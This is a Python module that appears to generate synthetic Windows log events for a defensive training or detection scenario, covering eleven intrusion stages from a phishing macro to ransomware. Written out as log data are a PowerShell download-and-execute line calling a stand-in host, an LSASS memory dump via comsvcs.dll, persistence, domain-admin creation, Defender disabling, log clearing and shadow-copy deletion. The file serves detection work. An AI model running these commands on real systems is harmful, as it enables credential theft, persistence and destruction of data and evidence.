"""Attacks on the office's Windows machines.

In: an `Attack` that begins at its instant. Out: its events and its steps. What is run is written
down as a log would show it; nothing here is a working tool.
"""

from clearhouse.defense.scenario.office.attack import Attack
from clearhouse.defense.scenario.office.logs import DOMAIN, SYSTEM32, address_of
from clearhouse.defense.scenario.office.ordinary import EXPLORER, POWERSHELL, SERVICES
from clearhouse.defense.scenario.truth import TruthClass

_CMD, _LSASS = f"{SYSTEM32}cmd.exe", f"{SYSTEM32}lsass.exe"
_WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
_RUN = "HKU\\S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"


def phishing(attack: Attack) -> None:
    """A letter with a macro that fetches a program."""
    logs, host, user = attack.logs, "ws-03", "j.lindqvist"
    one = logs.file(
        attack.wait(1, 5), host, user, _WORD, f"C:\\Users\\{user}\\Downloads\\invoice-7731.docm"
    )
    attack.step("a letter with a macro is opened", "T1566.001", [one], host, user)
    two = [
        logs.process(
            attack.wait(5, 20), host, user,
            "powershell.exe -nop -w hidden -enc JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAA=",
            image=POWERSHELL, parent=_WORD,
        ),
        logs.script(attack.wait(1, 2), host, "$c=New-Object Net.WebClient;"
                    "$c.DownloadString('http://cdn-sync.example/a.ps1')|IEX"),
    ]  # fmt: skip
    attack.step("the macro runs a hidden script", "T1059.001", two, host, user)
    address = "192.0.2.77"
    three = [
        logs.connection(attack.wait(1, 3), host, user, POWERSHELL, address, 80),
        logs.file(attack.wait(2, 9), host, user, POWERSHELL,
                  f"C:\\Users\\{user}\\AppData\\Local\\Temp\\syncsvc.exe"),
    ]  # fmt: skip
    attack.step("a program is fetched", "T1105", three, host, user, address)


def persistence(attack: Attack) -> None:
    """The fetched program stays: a run key and a scheduled task."""
    logs, host, user = attack.logs, "ws-03", "j.lindqvist"
    program = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\syncsvc.exe"
    one = logs.registry(attack.wait(1, 4), host, program, f"{_RUN}SyncSvc", program)
    attack.step("a run key starts it again", "T1547.001", [one], host)
    command = f'schtasks /create /tn "Sync Service" /tr {program} /sc minute /mo 30 /f'
    two = logs.process(attack.wait(20, 90), host, user, command,
                       image=f"{SYSTEM32}schtasks.exe", parent=_CMD)  # fmt: skip
    attack.step("so does a scheduled task", "T1053.005", [two], host, user)


def credential_dump(attack: Attack) -> None:
    """The memory of the logon service is written to a file."""
    logs, host, user = attack.logs, "ws-03", "adm.weiss"
    rundll = f"{SYSTEM32}rundll32.exe"
    events = [
        logs.process(attack.wait(1, 4), host, user,
                     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\d.bin full",
                     image=rundll, parent=_CMD),
        logs.opened_process(attack.wait(0.1, 0.5), host, rundll, _LSASS, "0x1fffff"),
        logs.file(attack.wait(0.2, 1), host, user, rundll, "C:\\Windows\\Temp\\d.bin"),
    ]  # fmt: skip
    attack.step("credentials are read from memory", "T1003.001", events, host, user)


def kerberoast(attack: Attack) -> None:
    """Tickets of many services are asked for in a weak cipher."""
    names = ("MSSQLSvc", "HTTP-intranet", "svc-backup", "svc-fax", "svc-labs", "svc-print")
    events = [
        attack.logs.security(
            attack.wait(0.3, 2), "dc-01", 4769, TargetUserName=f"p.haas@{DOMAIN}", ServiceName=name,
            TicketEncryptionType="0x17", TicketOptions="0x40810000", IpAddress=address_of("ws-07"),
        )
        for name in names
    ]  # fmt: skip
    attack.step("service tickets are collected", "T1558.003", events, "dc-01", "p.haas",
                address_of("ws-07"))  # fmt: skip


def lateral_service(attack: Attack) -> None:
    """From one desk to another through a service that is installed from afar."""
    logs, host, user = attack.logs, "ws-05", "adm.weiss"
    source = address_of("ws-03")
    one = [
        logs.logon(attack.wait(1, 3), host, user, kind=3, source=source),
        logs.security(attack.wait(0.1, 1), host, 5145, ShareName="\\\\*\\ADMIN$",
                      RelativeTargetName="BTOBTO.exe", SubjectUserName=user, IpAddress=source),
    ]  # fmt: skip
    attack.step("a program is put on an administrative share", "T1021.002", one, host, user, source)
    two = [
        logs.service(attack.wait(1, 3), host, "BTOBTO", "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output"),
        logs.process(attack.wait(0.5, 2), host, "SYSTEM", "cmd.exe /Q /c whoami /all",
                     image=_CMD, parent=SERVICES),
    ]  # fmt: skip
    attack.step("it runs as a service", "T1569.002", two, host)
    three = logs.windows(attack.wait(5, 30), host, "System", 7034, {
        "Provider_Name": "Service Control Manager", "param1": "BTOBTO",
    })  # fmt: skip
    attack.step("the service ends unexpectedly", "", [three], host, kind=TruthClass.COLLATERAL)


def discovery(attack: Attack) -> None:
    """Looking around: accounts, groups, shares and hosts, one command after another."""
    commands = ('net group "Domain Admins" /domain', "nltest /dclist:kestrel", "net view /all",
                "whoami /priv", "systeminfo", "tasklist /v")  # fmt: skip
    events = [
        attack.logs.process(attack.wait(4, 25), "ws-05", "k.novak", command,
                            image=f"{SYSTEM32}{command.split()[0]}.exe", parent=_CMD)
        for command in commands
    ]  # fmt: skip
    attack.step("the network is explored", "T1087.002", events, "ws-05", "k.novak")


def new_administrator(attack: Attack) -> None:
    """An account nobody asked for becomes administrator of the domain."""
    logs, host = attack.logs, "dc-01"
    one = [
        logs.process(attack.wait(1, 4), host, "adm.weiss", "net user svc-telemetry Winter!2026 /add /domain",
                     image=f"{SYSTEM32}net.exe", parent=_CMD),
        logs.security(attack.wait(0.1, 0.5), host, 4720, TargetUserName="svc-telemetry",
                      SubjectUserName="adm.weiss"),
    ]  # fmt: skip
    attack.step("an account is made", "T1136.002", one, host, "svc-telemetry", "adm.weiss")
    two = logs.security(attack.wait(5, 30), host, 4728, MemberName="CN=svc-telemetry",
                        TargetUserName="Domain Admins", SubjectUserName="adm.weiss")  # fmt: skip
    attack.step("it becomes administrator", "T1098.007", [two], host, "svc-telemetry")


def replication(attack: Attack) -> None:
    """A desk asks the domain controller for everybody's secrets, as only controllers do."""
    rights = ("{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}", "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")
    events = [
        attack.logs.security(
            attack.wait(0.2, 1), "dc-01", 4662, SubjectUserName="svc-telemetry",
            ObjectServer="DS", AccessMask="0x100", Properties=f"%%7688 {right}",
            ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
        )
        for right in rights
    ]  # fmt: skip
    attack.step("secrets are replicated", "T1003.006", events, "dc-01", "svc-telemetry")


def cover_tracks(attack: Attack) -> None:
    """Protection is switched off and the log emptied."""
    logs, host = attack.logs, "ws-05"
    one = [
        logs.process(attack.wait(1, 5), host, "adm.weiss",
                     "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                     image=POWERSHELL, parent=_CMD),
        logs.windows(attack.wait(0.5, 2), host, "Microsoft-Windows-Windows Defender/Operational",
                     5001, {"Product Name": "Microsoft Defender Antivirus"}),
    ]  # fmt: skip
    attack.step("protection is switched off", "T1685", one, host, "adm.weiss")
    two = [
        logs.process(attack.wait(20, 60), host, "adm.weiss", "wevtutil cl Security",
                     image=f"{SYSTEM32}wevtutil.exe", parent=_CMD),
        logs.security(attack.wait(0.1, 0.5), host, 1102, SubjectUserName="adm.weiss"),
    ]  # fmt: skip
    attack.step("the log is emptied", "T1685.005", two, host, "adm.weiss")


def ransom(attack: Attack) -> None:
    """Copies are deleted, then files are renamed one after another."""
    logs, host = attack.logs, "ws-05"
    one = [
        logs.process(attack.wait(1, 3), host, "adm.weiss", "vssadmin.exe delete shadows /all /quiet",
                     image=f"{SYSTEM32}vssadmin.exe", parent=_CMD),
        logs.process(attack.wait(1, 3), host, "adm.weiss", "bcdedit /set {default} recoveryenabled no",
                     image=f"{SYSTEM32}bcdedit.exe", parent=_CMD),
    ]  # fmt: skip
    attack.step("copies are deleted", "T1490", one, host, "adm.weiss")
    program = "C:\\ProgramData\\hx\\hx.exe"
    two = [
        logs.file(attack.wait(0.05, 0.3), host, "adm.weiss", program,
                  f"C:\\Users\\k.novak\\Documents\\scan-{number}.pdf.hexed")
        for number in range(60)
    ]  # fmt: skip
    two.append(
        logs.file(
            attack.wait(1, 2), host, "adm.weiss", program, "C:\\Users\\Public\\READ-TO-RECOVER.txt"
        )
    )
    attack.step("files are encrypted", "T1486", two, host, program)


def stolen_archive(attack: Attack) -> None:
    """Records are packed with a renamed archiver: nothing of it is a known bad name."""
    logs, host, user = attack.logs, "ws-07", "p.haas"
    program = f"C:\\Users\\{user}\\AppData\\Local\\fontcache.exe"
    events = [
        logs.process(attack.wait(1, 3), host, user, f"{program} a -hpQ9 C:\\Users\\Public\\f.dat R:\\records",
                     image=program, parent=EXPLORER),
        logs.file(attack.wait(60, 200), host, user, program, "C:\\Users\\Public\\f.dat"),
    ]  # fmt: skip
    attack.step("records are packed", "T1560.001", events, host, user)


INTRUSIONS = (
    phishing, persistence, credential_dump, kerberoast, lateral_service, discovery,
    new_administrator, replication, cover_tracks, ransom, stolen_archive,
)  # fmt: skip
